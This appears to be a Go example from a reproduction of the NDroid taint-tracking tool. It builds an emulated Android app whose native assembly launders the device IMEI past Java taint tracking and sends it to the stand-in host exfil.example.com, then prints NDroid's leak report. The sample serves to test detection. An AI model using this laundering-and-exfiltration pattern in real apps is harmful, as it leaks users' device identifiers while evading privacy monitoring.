@@ -1,0 +1,97 @@
+// Quickstart: build a tiny leaking app from scratch with the public API,
+// analyze it under NDroid, and print the result.
+//
+// The app obtains the device IMEI in Java, hands it to a native method that
+// stores it in native memory, later exfiltrates it through a second native
+// call that builds a string with NewStringUTF, and finally sends it from
+// Java — the Case 1' flow plain TaintDroid cannot see.
+//
+// Run with: go run ./examples/quickstart
+package main
+
+import (
+	"fmt"
+	"log"
+
+	"repro/internal/core"
+	"repro/internal/dex"
+)
+
+func main() {
+	// 1. Boot the emulated Android stack: CPU, kernel, libc, Dalvik VM.
+	sys, err := core.NewSystem()
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// 2. Write the app's native half in assembly and load it as a .so.
+	prog, err := sys.VM.LoadNativeLib("libquick.so", `
+; void stash(JNIEnv*, jclass, jstring secret)
+Java_stash:
+	PUSH {R4, LR}
+	MOV R1, R2
+	MOV R2, #0
+	BL GetStringUTFChars   ; C chars of the (tainted) jstring
+	MOV R1, R0
+	LDR R0, =hideout
+	BL strcpy              ; stash them in native memory
+	POP {R4, PC}
+
+; jstring fetch(JNIEnv*, jclass) — no tainted arguments!
+Java_fetch:
+	PUSH {R4, LR}
+	LDR R1, =hideout
+	BL NewStringUTF        ; wrap the stashed bytes in a fresh String
+	POP {R4, PC}
+
+hideout:
+	.space 64
+`)
+	if err != nil {
+		log.Fatal(err)
+	}
+
+	// 3. Write the app's Java half with the dex builder.
+	const cls = "Lcom/example/Quick;"
+	cb := dex.NewClass(cls)
+	cb.NativeMethod("stash", "VL", dex.AccStatic, 0)
+	cb.NativeMethod("fetch", "L", dex.AccStatic, 0)
+	cb.Method("run", "V", dex.AccStatic, 2).
+		InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
+		MoveResult(0).
+		InvokeStatic(cls, "stash", "VL", 0).
+		InvokeStatic(cls, "fetch", "L").
+		MoveResult(0).
+		ConstString(1, "exfil.example.com").
+		InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
+		ReturnVoid().
+		Done()
+	sys.VM.RegisterClass(cb.Build())
+	for _, m := range []string{"stash", "fetch"} {
+		if err := sys.VM.BindNative(cls, m, prog, "Java_"+m); err != nil {
+			log.Fatal(err)
+		}
+	}
+
+	// 4. Attach NDroid and run the app.
+	a := core.NewAnalyzer(sys, core.ModeNDroid)
+	a.Log.Enabled = true
+	if _, _, _, err := sys.VM.InvokeByName(cls, "run", nil, nil); err != nil {
+		log.Fatal(err)
+	}
+
+	// 5. Report.
+	fmt.Println("flow log:")
+	fmt.Println(a.Log.String())
+	fmt.Println("\nleaks detected by NDroid:")
+	for _, l := range a.Leaks {
+		fmt.Println(" ", l)
+	}
+	if len(a.Leaks) == 0 {
+		fmt.Println("  (none — unexpected!)")
+	}
+	fmt.Println("\nwhat actually left the device:")
+	for _, m := range sys.Kern.Net.Log {
+		fmt.Printf("  -> %s: %q\n", m.Dest, string(m.Data))
+	}
+}
